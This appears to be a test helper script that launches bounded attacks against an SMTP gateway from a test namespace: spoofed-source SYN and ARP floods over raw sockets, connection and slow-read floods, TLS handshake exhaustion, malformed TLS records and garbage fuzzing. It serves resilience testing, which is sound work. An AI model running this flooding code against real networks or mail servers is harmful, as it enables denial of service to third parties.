#!/usr/bin/python3
"""hostile_attack.py — the attacks of tests/integration/test_hostile.sh.

Run inside the attacker's namespace; each attack is bounded (a count or a
number of seconds) and prints one JSON object on stdout: what it sent and
what the gateway answered, for the test to assert on.

  synflood IFACE DST_MAC DST_IP NET SOURCES COUNT RATE PORT
      COUNT SYNs at RATE per second from SOURCES spoofed addresses of NET
      (a.b.c.d/len: the attacker's own subnet, none in the /24 of DST_IP,
      where the gateway, the attacker and the legitimate clients are)
      with random ports and sequence numbers, by a raw AF_PACKET socket:
      nobody answers the SYN-ACKs (nor the gateway's ARP requests for the
      sources), every SYN leaves a half-open connection or a cookie.
  arpflood IFACE DST_IP NET SOURCES RATE
      One ARP request for DST_IP from each of SOURCES spoofed addresses of
      NET (as synflood), each with its own random MAC, RATE a second: every
      one asks the gateway to learn a neighbour that will never talk to it.
  connflood ADDR PORT N INTERVAL HOLD
      N connections, one every INTERVAL s, each reading the first reply
      line; HOLD 1 keeps them open till the end, 0 closes each at once.
  noread ADDR PORT N SECS [N_TLS]
      N clients (the first N_TLS inside STARTTLS) that send EHLO and NOOPs
      without ever reading (receive
      buffer 4 KB), 20 connections a second: the gateway's replies pile up
      (its send queue) and so do our commands (its receive queue). Records how each
      connection ended (reset / closed) and when, SECS at most.
  pipeline ADDR PORT N KIND
      EHLO, N commands and QUIT in one write (KIND good: NOOP, RSET, HELP,
      VRFY; mail: MAIL/RSET transactions; rcpt: one MAIL, N RCPTs, DATA and
      a message; bad: unknown commands and syntax errors), then every reply
      line until EOF.
  tls-silence ADDR PORT N SECS
      N sessions: EHLO, STARTTLS, a ClientHello, then silence; records when
      the gateway gives up on each.
  tls-garbage ADDR PORT MODE
      STARTTLS, then instead of a ClientHello: "plain" (an EHLO line),
      "random" (4 KB of random bytes), "record" (a handshake record header
      announcing 16 KB, then silence); or "record-after": a handshake and
      EHLO, then an application-data record that does not decrypt.
  tls-loop ADDR PORT SECS ABORT_PCT RATE
      STARTTLS handshakes, RATE a second, for SECS s; ABORT_PCT % of them are
      cut with a reset right after the server's first flight (the costly
      part done, nothing to show for it); the others finish, say EHLO and
      QUIT. Then one session that asks for STARTTLS a second time inside TLS.
  garbage ADDR PORT N SEED
      N connections of random bytes (with CR, LF, NUL, long lines) at the
      SMTP port, each then read until the gateway closes.
"""
import json
import os
import random
import select
import socket
import ssl
import struct
import sys
import time

T_END = 8.0      # read timeout for replies


def out(d):
    print(json.dumps(d, sort_keys=True))


def connect(addr, port, rcvbuf=None, timeout=5.0):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.settimeout(timeout)
    s.connect((addr, port))
    return s


def readline(s, buf=b""):
    """One CRLF line (without it) and the rest of the buffer."""
    while b"\n" not in buf:
        d = s.recv(4096)
        if not d:
            raise EOFError(buf)
        buf += d
    line, rest = buf.split(b"\n", 1)
    return line.rstrip(b"\r").decode("latin-1"), rest


def reply(s, buf=b""):
    """A whole (multi-line) reply: (code, last line, rest of buffer)."""
    while True:
        line, buf = readline(s, buf)
        if len(line) < 4 or line[3] != "-":
            return line[:3], line, buf


def rst_close(s):
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    s.close()


def classify(line):
    """A reply line as the test counts it: the code, and for 421 which limit."""
    if line.startswith("421") and "per second" in line:
        return "421-rate"
    if line.startswith("421") and "too many connections" in line:
        return "421-sessions"
    return line[:3] if line else "none"


# ---- SYN flood ----

def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def syn_frame(dmac, smac, src, dst, sport, dport, seq):
    opts = struct.pack("!BBH", 2, 4, 1460) + b"\x01\x01\x04\x02"   # MSS, NOP NOP SACK-permitted
    thl = 20 + len(opts)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (thl // 4) << 4, 0x02, 64240, 0, 0) + opts
    ph = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.randrange(65536), 0x4000, 64, 6, 0,
                     src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dmac + smac + b"\x08\x00" + ip + tcp


def spoofed(net, n, rnd, dst):
    """n distinct host addresses of net ("a.b.c.d/len"), none in the /24 of dst
    (the gateway's, where the attacker and the legitimate clients are)."""
    base, plen = net.split("/")
    lo = struct.unpack("!I", socket.inet_aton(base))[0] & ~((1 << (32 - int(plen))) - 1) & 0xFFFFFFFF
    hi = lo + (1 << (32 - int(plen))) - 1
    mine = struct.unpack("!I", dst)[0] & ~0xFF
    cand = [a for a in range(lo + 1, hi) if a & ~0xFF != mine and (a & 0xFF) not in (0, 255)]
    return [struct.pack("!I", a) for a in rnd.sample(cand, min(n, len(cand)))]


def synflood(iface, dmac, dst, net, sources, count, rate, port):
    count, rate, port = int(count), float(rate), int(port)
    dmac = bytes.fromhex(dmac.replace(":", ""))
    smac = bytes.fromhex(open("/sys/class/net/%s/address" % iface).read().strip().replace(":", ""))
    dst = socket.inet_aton(dst)
    rnd = random.Random(12)
    srcs = spoofed(net, int(sources), rnd, dst)
    sk = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sk.bind((iface, 0))
    t0 = time.time()
    for i in range(count):
        f = syn_frame(dmac, smac, rnd.choice(srcs), dst, rnd.randrange(1024, 65536), port,
                      rnd.randrange(1 << 32))
        sk.send(f)
        ahead = t0 + (i + 1) / rate - time.time()
        if ahead > 0:
            time.sleep(ahead)
    out({"sent": count, "secs": round(time.time() - t0, 3), "sources": len(srcs)})


def arpflood(iface, dst, net, sources, rate):
    rate = float(rate)
    rnd = random.Random(13)
    srcs = spoofed(net, int(sources), rnd, socket.inet_aton(dst))
    sk = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sk.bind((iface, 0))
    t0 = time.time()
    for i, src in enumerate(srcs):
        mac = bytes([0x02] + [rnd.randrange(256) for _ in range(5)])
        arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, mac, src, b"\0" * 6, socket.inet_aton(dst))
        sk.send(b"\xff" * 6 + mac + b"\x08\x06" + arp + b"\0" * 18)
        ahead = t0 + (i + 1) / rate - time.time()
        if ahead > 0:
            time.sleep(ahead)
    out({"sent": len(srcs), "secs": round(time.time() - t0, 3)})


# ---- connection flood ----

def connflood(addr, port, n, interval, hold):
    n, interval, hold = int(n), float(interval), int(hold)
    socks, replies, errors = [], {}, {}
    t0 = time.time()
    for i in range(n):
        t = time.time()
        try:
            s = connect(addr, port)
            line, _ = readline(s)
            k = classify(line)
            replies[k] = replies.get(k, 0) + 1
            if k.startswith("421"):
                replies["text:" + k] = line
            if hold and k == "220":
                socks.append(s)
            else:
                s.close()
        except (OSError, EOFError) as e:
            name = type(e).__name__
            errors[name] = errors.get(name, 0) + 1
        d = interval - (time.time() - t)
        if d > 0:
            time.sleep(d)
    secs = time.time() - t0
    for s in socks:
        try:
            s.sendall(b"QUIT\r\n")
            s.close()
        except OSError:
            pass
    out({"replies": replies, "errors": errors, "held": len(socks), "secs": round(secs, 3)})


# ---- clients that never read ----

def noread_open(addr, port, tls):
    """A connection for noread: plaintext after EHLO is sent, or inside TLS."""
    if not tls:
        s = connect(addr, port, rcvbuf=4096)
        s.setblocking(False)
        return s, b"EHLO noread.test\r\n"
    s = starttls(addr, port)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    t = tls_ctx().wrap_socket(s, server_hostname="mx.gw.test")
    t.setblocking(False)
    return t, b"EHLO noread.test\r\n"


def noread(addr, port, n, secs, n_tls=0):
    n, secs, n_tls = int(n), float(secs), int(n_tls)
    conns = []
    t0 = time.time()
    for i in range(n):
        s, first = noread_open(addr, port, i < n_tls)
        conns.append({"s": s, "sent": 0, "end": None, "how": None, "tls": i < n_tls, "data": first})
        time.sleep(0.05)        # 20 a second: under the suite's connection rate limit
    pend = list(range(n))
    chunk = b"NOOP\r\n" * 2000
    while pend and time.time() - t0 < secs:
        p = select.poll()
        for i in pend:
            p.register(conns[i]["s"], select.POLLOUT | select.POLLERR | select.POLLHUP)
        ev = dict(p.poll(200))
        for i in list(pend):
            c = conns[i]
            e = ev.get(c["s"].fileno(), 0)
            if e & (select.POLLERR | select.POLLHUP):
                err = c["s"].getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                c["how"] = "reset" if err == 104 else ("closed" if not err else os.strerror(err))
            elif e & select.POLLOUT or c["tls"]:
                try:
                    c["sent"] += c["s"].send(c["data"])
                    c["data"] = chunk
                    continue
                except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                    continue
                except OSError as x:
                    c["how"] = "reset" if x.errno == 104 else type(x).__name__
            else:
                continue
            c["end"] = round(time.time() - t0, 2)
            pend.remove(i)
            c["s"].close()
    res = [{"sent": c["sent"], "end": c["end"], "how": c["how"], "tls": c["tls"]} for c in conns]
    for c in conns:
        if c["end"] is None:
            c["s"].close()
    out({"conns": res})


# ---- pipelining ----

def pipeline(addr, port, n, kind):
    n = int(n)
    s = connect(addr, port, timeout=T_END)
    code, line, buf = reply(s)
    if kind == "good":
        cyc = [b"NOOP", b"RSET", b"HELP", b"VRFY postmaster"]
    elif kind == "mail":
        cyc = [b"MAIL FROM:<p@partner.test>", b"RSET"]
    else:
        cyc = [b"XYZZY", b"MAIL", b"RCPT TO", b"\x01\x02junk"]
    if kind == "rcpt":
        cmds = [b"MAIL FROM:<p@partner.test>"] + [b"RCPT TO:<r%d@example.com>" % i for i in range(n)] + \
            [b"DATA", b"Subject: %d pipelined recipients\r\n\r\nhello\r\n." % n]
    else:
        cmds = [cyc[i % len(cyc)] for i in range(n)]
    blob = b"EHLO pipe.test\r\n" + b"".join(c + b"\r\n" for c in cmds) + b"QUIT\r\n"
    t0 = time.time()
    s.sendall(blob)
    codes, last, lines = {}, "", 0
    try:
        while True:
            code, last, buf = reply(s, buf)
            codes[code] = codes.get(code, 0) + 1
            lines += 1
    except (EOFError, OSError) as e:
        tail = type(e).__name__
    out({"bytes": len(blob), "commands": n + 2, "replies": lines, "codes": codes, "last": last,
         "end": tail, "secs": round(time.time() - t0, 2)})


# ---- TLS ----

def tls_ctx():
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    c.check_hostname = False
    c.verify_mode = ssl.CERT_NONE
    return c


def starttls(addr, port):
    s = connect(addr, port, timeout=T_END)
    code, line, buf = reply(s)
    if code != "220":
        s.close()
        raise EOFError(line.encode())
    s.sendall(b"EHLO tls.test\r\n")
    _, _, buf = reply(s, buf)
    s.sendall(b"STARTTLS\r\n")
    code, line, buf = reply(s, buf)
    if code != "220":
        raise EOFError(line.encode())
    return s


def client_hello():
    inc, outg = ssl.MemoryBIO(), ssl.MemoryBIO()
    o = tls_ctx().wrap_bio(inc, outg, server_hostname="mx.gw.test")
    try:
        o.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outg.read()


def wait_close(s, secs):
    """Read (and drop) until the peer closes: ('closed'|'reset'|'open', bytes read)."""
    s.settimeout(0.5)
    end, got = time.time() + secs, 0
    while time.time() < end:
        try:
            d = s.recv(65536)
            if not d:
                return "closed", got
            got += len(d)
        except socket.timeout:
            continue
        except ConnectionResetError:
            return "reset", got
    return "open", got


def tls_silence(addr, port, n, secs):
    n, secs = int(n), float(secs)
    t0, socks, res = time.time(), [], []
    for i in range(n):
        s = starttls(addr, port)
        s.sendall(client_hello())
        socks.append(s)
    for s in socks:
        how, got = wait_close(s, secs - (time.time() - t0))
        res.append({"how": how, "end": round(time.time() - t0, 2), "got": got})
        s.close()
    out({"conns": res})


def tls_established(s):
    """A TLS session over s by hand (memory BIOs), so raw bytes can follow it."""
    inc, outg = ssl.MemoryBIO(), ssl.MemoryBIO()
    o = tls_ctx().wrap_bio(inc, outg, server_hostname="mx.gw.test")
    while True:
        try:
            o.do_handshake()
            break
        except ssl.SSLWantReadError:
            s.sendall(outg.read())
            d = s.recv(65536)
            if not d:
                raise EOFError(b"closed in the handshake")
            inc.write(d)
    s.sendall(outg.read())
    o.write(b"EHLO tls.test\r\n")
    s.sendall(outg.read())
    while True:
        try:
            if b"\r\n250 " in b"\r\n" + o.read(65536):
                return
        except ssl.SSLWantReadError:
            inc.write(s.recv(65536))


def tls_garbage(addr, port, mode):
    s = starttls(addr, port)
    t0 = time.time()
    if mode == "record-after":
        tls_established(s)
        t0 = time.time()
        s.sendall(b"\x17\x03\x03\x00\x40" + bytes(random.Random(9).randrange(256) for _ in range(64)))
    elif mode == "plain":
        s.sendall(b"EHLO plain.test\r\n")
    elif mode == "random":
        s.sendall(bytes(random.Random(7).randrange(256) for _ in range(4096)))
    else:
        s.sendall(b"\x16\x03\x01\x40\x00" + b"\x01" * 100)
    how, got = wait_close(s, 30)
    out({"mode": mode, "how": how, "got": got, "end": round(time.time() - t0, 2)})


def tls_once(addr, port, abort):
    s = starttls(addr, port)
    if abort:
        s.sendall(client_hello())
        s.settimeout(T_END)
        if not s.recv(4096):
            raise EOFError(b"no server hello")
        rst_close(s)
        return "aborted"
    t = tls_ctx().wrap_socket(s, server_hostname="mx.gw.test")
    t.sendall(b"EHLO tls.test\r\n")
    code, _, buf = reply(t)
    t.sendall(b"QUIT\r\n")
    reply(t, buf)
    t.close()
    return "done" if code == "250" else "ehlo-" + code


def tls_loop(addr, port, secs, abort_pct, rate):
    secs, abort_pct, rate = float(secs), int(abort_pct), float(rate)
    rnd = random.Random(3)
    res, t0, i = {}, time.time(), 0
    while time.time() - t0 < secs:
        i += 1
        ahead = t0 + i / rate - time.time()
        if ahead > 0:
            time.sleep(ahead)
        try:
            k = tls_once(addr, port, rnd.randrange(100) < abort_pct)
        except EOFError as e:
            k = classify(e.args[0].decode("latin-1")) if e.args and e.args[0] else "eof"
        except (OSError, ssl.SSLError) as e:
            k = type(e).__name__
        res[k] = res.get(k, 0) + 1
    # STARTTLS again inside TLS: refused, the session goes on.
    again = "?"
    time.sleep(1.1)     # out of the second the rate limit counted
    try:
        s = starttls(addr, port)
        t = tls_ctx().wrap_socket(s, server_hostname="mx.gw.test")
        t.sendall(b"EHLO tls.test\r\n")
        _, _, buf = reply(t)
        t.sendall(b"STARTTLS\r\n")
        _, again, buf = reply(t, buf)
        t.sendall(b"NOOP\r\n")
        _, noop, buf = reply(t, buf)
        again += " / then NOOP: " + noop
        t.close()
    except (OSError, EOFError, ssl.SSLError) as e:
        again = "error " + type(e).__name__
    out({"results": res, "secs": round(time.time() - t0, 2), "starttls_again": again})


# ---- garbage ----

def garbage_blob(rnd):
    parts = []
    for _ in range(rnd.randrange(1, 40)):
        k = rnd.randrange(6)
        if k == 0:
            parts.append(bytes(rnd.randrange(256) for _ in range(rnd.randrange(1, 600))))
        elif k == 1:
            parts.append(b"A" * rnd.randrange(400, 5000) + b"\r\n")
        elif k == 2:
            parts.append(rnd.choice([b"\r", b"\n", b"\0", b"\r\r\n", b"\n\r"]) * rnd.randrange(1, 30))
        elif k == 3:
            parts.append(rnd.choice([b"MAIL FROM:<", b"RCPT TO:<x@", b"DATA\r\n", b"EHLO ", b"BDAT 1",
                                     b"AUTH PLAIN", b"STARTTLS\r\n", b"\x16\x03\x01"]))
        elif k == 4:
            parts.append(bytes(rnd.randrange(0x80, 256) for _ in range(rnd.randrange(1, 200))) + b"\r\n")
        else:
            parts.append(b"%s\r\n" % bytes(rnd.randrange(32, 127) for _ in range(rnd.randrange(1, 80))))
    return b"".join(parts)


def garbage(addr, port, n, seed):
    n = int(n)
    rnd = random.Random(int(seed))
    codes, ends, sent = {}, {}, 0
    for i in range(n):
        try:
            s = connect(addr, port, timeout=T_END)
            _, _, buf = reply(s)
            b = garbage_blob(rnd)
            s.sendall(b)
            sent += len(b)
            s.shutdown(socket.SHUT_WR)
            how = "closed"
            try:
                while True:
                    code, _, buf = reply(s, buf)
                    codes[code] = codes.get(code, 0) + 1
            except EOFError:
                pass
            except socket.timeout:
                how = "timeout"
            except ConnectionResetError:
                how = "reset"
            ends[how] = ends.get(how, 0) + 1
            s.close()
        except OSError as e:
            k = type(e).__name__
            ends[k] = ends.get(k, 0) + 1
    out({"conns": n, "bytes": sent, "codes": codes, "ends": ends})


if __name__ == "__main__":
    cmds = {"synflood": synflood, "arpflood": arpflood, "connflood": connflood, "noread": noread, "pipeline": pipeline,
            "tls-silence": tls_silence, "tls-garbage": tls_garbage, "tls-loop": tls_loop,
            "garbage": garbage}
    if len(sys.argv) < 2 or sys.argv[1] not in cmds:
        sys.exit(__doc__)
    a = sys.argv[2:]
    if sys.argv[1] in ("connflood", "noread", "pipeline", "tls-silence", "tls-garbage", "tls-loop",
                       "garbage"):
        a[1] = int(a[1])
    cmds[sys.argv[1]](*a)
